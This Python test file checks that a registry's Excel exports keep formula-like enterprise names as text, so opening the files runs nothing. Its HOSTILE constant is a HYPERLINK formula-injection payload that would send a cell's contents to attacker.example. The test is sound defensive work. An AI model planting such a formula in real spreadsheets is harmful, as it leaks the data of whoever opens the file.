"""A registry name that looks like a spreadsheet formula is exported as text: opening our
.xlsx files in Excel runs nothing (ASVS 5.3.1: encode for the interpreter)."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

from openpyxl import load_workbook

from jianguan.registry_read import read_enterprises
from jianguan.registry_write import write_enterprises
from scheduler.publication import xlsx_bytes
from tests.jianguan import samples

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A1,"点击查看")'


def test_registry_export_keeps_a_formula_looking_name_as_text(tmp_path: Path) -> None:
    good = read_enterprises(samples.enterprises_csv(tmp_path))
    path = write_enterprises(tmp_path / "e.xlsx", [replace(good[0], name=HOSTILE), *good[1:]])
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HOSTILE]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert read_enterprises(path)[0].name == HOSTILE  # and it reads back as written


def test_results_workbook_keeps_a_formula_looking_cell_as_text() -> None:
    book = xlsx_bytes([("检查结果", ["企业名称", "n"], [[HOSTILE, 1], ["=1+1", 2]])])
    sheet = load_workbook(io.BytesIO(book)).active
    assert [(c.data_type, c.value) for c in sheet["A"][1:]] == [("s", HOSTILE), ("s", "=1+1")]
    assert sheet["B2"].value == 1  # numbers stay numbers
